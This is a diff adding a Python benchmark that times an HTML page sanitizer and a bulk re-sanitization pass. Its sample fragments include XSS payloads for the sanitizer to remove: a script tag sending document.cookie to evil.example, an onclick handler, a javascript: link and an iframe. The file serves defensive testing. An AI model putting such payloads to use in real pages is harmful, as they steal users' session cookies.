@@ -0,0 +1,126 @@
+""" Measure the throughput of the page body sanitizer.
+
+Bodies of growing sizes are built from a mix of allowed markup, markup
+the policy removes (scripts, event handlers, ``javascript:`` links,
+iframes, comments) and plain text. For each size the benchmark reports
+how many megabytes of HTML ``sanitize`` cleans per second.
+
+It then fills a memory store with ``--pages`` pages that were never
+sanitized and times one pass of the ``Resanitizer`` over it, as after a
+change of the policy.
+
+Usage::
+
+    python benchmarks/bench_sanitize.py --sizes 10000,100000,1000000
+
+"""
+import argparse
+import json
+import os
+import random
+import sys
+import time
+
+sys.path.insert(0, os.path.join(
+    os.path.dirname(os.path.dirname(os.path.abspath(__file__))), 'scripts'))
+
+from demo_loader import load_demo  # noqa: E402
+
+FRAGMENTS = [
+    '<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n',
+    '<h2 title="section">A heading &amp; more</h2>\n',
+    '<ul><li>one</li><li><a href="https://example.com/">two</a></li></ul>\n',
+    '<p onclick="steal()">clickable <b>bold <i>nested</i></b></p>\n',
+    '<script>document.location = "https://evil.example/?" + document.cookie'
+    '</script>\n',
+    '<a href="javascript:alert(1)">bad link</a>\n',
+    '<iframe src="https://evil.example/"><p>fallback</p></iframe>\n',
+    '<!-- a comment --><div class="box"><span>unclosed\n',
+    '<table><tr><td colspan="2">cell</td></tr></table>\n',
+    'plain text with a < and a > and an &eacute; in it\n',
+]
+
+def make_body(size, seed=0):
+    rng = random.Random(seed)
+    parts = []
+    length = 0
+    while length < size:
+        fragment = rng.choice(FRAGMENTS)
+        parts.append(fragment)
+        length += len(fragment)
+    return ''.join(parts)
+
+def bench_size(demo, size, min_seconds):
+    body = make_body(size)
+    demo.sanitize(body)
+    runs = 0
+    start = time.perf_counter()
+    while True:
+        demo.sanitize(body)
+        runs += 1
+        elapsed = time.perf_counter() - start
+        if elapsed >= min_seconds:
+            break
+    return {
+        'size': len(body),
+        'runs': runs,
+        'ms_per_body': elapsed / runs * 1000,
+        'mb_per_s': len(body) * runs / elapsed / 1e6,
+    }
+
+def bench_pass(demo, n_pages, body_size):
+    store = demo.open_store('memory://', demo.User, demo.Page)
+    store.pages.add_many(
+        demo.Page('Page %d' % i, uri='Page-%d' % i,
+                  body=make_body(body_size, seed=i), owner='luser')
+        for i in range(n_pages))
+    resanitizer = demo.Resanitizer(store, demo.Page, pause=0)
+    start = time.perf_counter()
+    rewritten = resanitizer.run()
+    elapsed = time.perf_counter() - start
+    assert rewritten == n_pages
+    store.close()
+    return {
+        'pages': n_pages,
+        'body_size': body_size,
+        'seconds': elapsed,
+        'pages_per_s': n_pages / elapsed,
+    }
+
+def main(argv=sys.argv):
+    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
+    parser.add_argument('--sizes', default='1000,10000,100000,1000000',
+                        help='comma separated body sizes in characters')
+    parser.add_argument('--seconds', type=float, default=1.0,
+                        help='minimum time spent on each size')
+    parser.add_argument('--pages', type=int, default=1000,
+                        help='pages re-sanitized by the bulk pass')
+    parser.add_argument('--page-size', type=int, default=5000,
+                        help='body size of those pages')
+    parser.add_argument('--json', action='store_true',
+                        help='print the results as JSON')
+    args = parser.parse_args(argv[1:])
+
+    demo = load_demo('2.object_security')
+    results = {
+        'sizes': [bench_size(demo, int(size), args.seconds)
+                  for size in args.sizes.split(',')],
+        'pass': bench_pass(demo, args.pages, args.page_size),
+    }
+
+    if args.json:
+        json.dump(results, sys.stdout, indent=2)
+        sys.stdout.write('\n')
+        return 0
+
+    print('%10s %8s %12s %10s' % ('body size', 'runs', 'ms/body', 'MB/s'))
+    for r in results['sizes']:
+        print('%10d %8d %12.2f %10.2f' % (
+            r['size'], r['runs'], r['ms_per_body'], r['mb_per_s']))
+    r = results['pass']
+    print('re-sanitized %d pages of %d characters in %.2fs, %.0f pages/s' % (
+        r['pages'], r['body_size'], r['seconds'], r['pages_per_s']))
+    return 0
+
+if __name__ == '__main__':
+    sys.exit(main())